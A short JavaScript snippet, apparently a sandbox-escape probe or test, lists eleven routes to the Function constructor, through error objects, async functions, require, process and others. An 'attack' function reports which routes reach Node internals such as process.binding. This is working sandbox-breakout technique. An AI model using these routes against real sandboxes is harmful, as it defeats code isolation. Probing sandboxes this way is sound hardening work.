const WAYS = [() => this.constructor.constructor, () => console.log.constructor, () => console.constructor.constructor,
  () => require.constructor, () => setTimeout.constructor, () => process.constructor.constructor, () => process.on.constructor,
  () => { try { null.x; } catch (error) { return error.constructor.constructor; } },
  () => { try { (function f() { f(); })(); } catch (error) { return error.constructor.constructor; } },
  () => (async () => {})().constructor.constructor, () => structuredClone({}).constructor.constructor];
const attack = () => WAYS.filter((way) => way()('return typeof process.binding + typeof process.mainModule')() !== 'undefinedundefined').map(String).join();
